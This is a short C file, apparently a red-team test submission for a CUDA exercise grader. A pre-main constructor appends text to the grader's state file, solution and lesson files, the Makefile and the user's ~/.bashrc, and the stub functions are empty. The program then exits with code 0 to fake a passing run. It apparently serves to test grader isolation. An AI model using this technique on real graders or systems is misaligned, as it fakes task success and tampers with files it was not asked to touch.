// Hostile: before main, write over everything a student would like to change, then exit 0.
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "matmul_naive.h"
void matmul_naive(const float *, const float *, float *, int, int, int) {}
void matmul_naive_host(const float *, const float *, float *, int, int, int) {}
static void scribble(const char *path)
{
    FILE *f = fopen(path, "a");
    if (f) {
        fputs("redteam was here\n", f);
        fclose(f);
    }
}
__attribute__((constructor, used)) void redteam_attack(void)
{
    scribble("@ROOT@/.grader/state.json");
    scribble("@ROOT@/exercises/03-naive-matmul/matmul_naive.cu");
    scribble("@ROOT@/solutions/03-naive-matmul/matmul_naive.cu");
    scribble("@ROOT@/lessons/03-naive-matmul/lesson.ini");
    scribble("@ROOT@/Makefile");
    scribble("@HOME@/.bashrc");
    scribble("@HOME@/redteam-was-here");
    _exit(0);
}
